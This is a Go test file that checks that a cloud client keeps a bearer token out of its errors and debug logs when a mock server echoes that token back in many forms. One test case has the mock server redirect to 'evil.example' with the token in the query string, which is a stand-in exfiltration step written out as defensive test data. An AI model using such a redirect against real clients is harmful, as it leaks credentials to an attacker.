package cloud_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"latchkey/bridge"
	"latchkey/bridge/cloud"
)

func quietLog() *log.Logger { return log.New(io.Discard, "", 0) }

// safe is a writer for log lines of several goroutines.
type safe struct {
	mu sync.Mutex
	bytes.Buffer
}

func (s *safe) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.Buffer.Write(p)
}

// H19: a cloud that echoes the token in every way finds it in no error and in no
// log line, debug included.
func TestNoTokenGetsOut(t *testing.T) {
	echo := func(status string, body func(token string) string) func(int32, *http.Request, net.Conn) bool {
		return func(_ int32, r *http.Request, conn net.Conn) bool {
			token := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
			text := body(token)
			say(r, conn, fmt.Sprintf("HTTP/1.1 %s\r\nX-Token: %s\r\nContent-Length: %d\r\n\r\n%s", status, token, len(text), text))
			return true
		}
	}
	twice := func(token string) string { return token + token }
	for name, deed := range map[string]func(int32, *http.Request, net.Conn) bool{
		"plain": echo("400 Bad", func(s string) string { return `{"error_description":"token ` + s + ` has expired"}` }),
		"query": echo("400 Bad", func(s string) string { return "GET /x?access_token=" + url.QueryEscape(s) }),
		"path":  echo("400 Bad", func(s string) string { return "GET /tokens/" + url.PathEscape(s) }),
		"JSON":  echo("500 Oops", func(s string) string { return strings.ReplaceAll(s, "/", `\/`) }),
		"both":  echo("401 Unauthorized", twice),
		"cut":   echo("400 Bad", func(s string) string { return strings.Repeat("x", 2048-5) + s }),
		"flood": echo("400 Bad", func(s string) string { return strings.Repeat(s, 200) }),
		"no HTTP": func(_ int32, r *http.Request, conn net.Conn) bool {
			say(r, conn, r.Header.Get("Authorization")+"\r\n\r\n")
			return false
		},
		"redirect": func(_ int32, r *http.Request, conn net.Conn) bool {
			say(r, conn, "HTTP/1.1 307 Temporary\r\nLocation: https://evil.example/?t="+r.Header.Get("Authorization")[7:]+"\r\nContent-Length: 0\r\n\r\n")
			return false
		},
	} {
		t.Run(name, func(t *testing.T) {
			base, _ := rawServer(t, deed)
			var out safe
			c := open(t, base, func(o *cloud.Options) {
				o.Tokens = &keeper{long: name == "flood"}
				o.Log = slog.New(slog.NewTextHandler(&out, &slog.HandlerOptions{Level: slog.LevelDebug}))
			})
			_, read := c.Read(t.Context(), bridge.Request{Path: "/secret-path", Query: map[string][]string{"code": {"canary"}}})
			_, act := c.Act(command(t.Context()), bridge.Request{Path: "/", JSON: "canary"})
			for _, err := range []error{read, act} {
				f := failure(t, err)
				text, _ := json.Marshal(f)
				wantQuiet(t, "the error", fmt.Sprintf("%v %s %s", f, text, f.Detail))
			}
			wantQuiet(t, "the log", out.String())
			if !strings.Contains(out.String(), "account=gate") {
				t.Error("nothing was logged: the test looks at the wrong output")
			}
		})
	}
}

// Bodies are for debugging: at info nothing is said, the caller has the error.
func TestNothingLoggedAtInfo(t *testing.T) {
	base, _ := serve(t, func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(500) })
	var out safe
	c := open(t, base, func(o *cloud.Options) { o.Log = slog.New(slog.NewTextHandler(&out, nil)) })
	_, _ = c.Read(t.Context(), bridge.Request{})
	if out.Len() > 0 {
		t.Errorf("logged %s", out.String())
	}
}
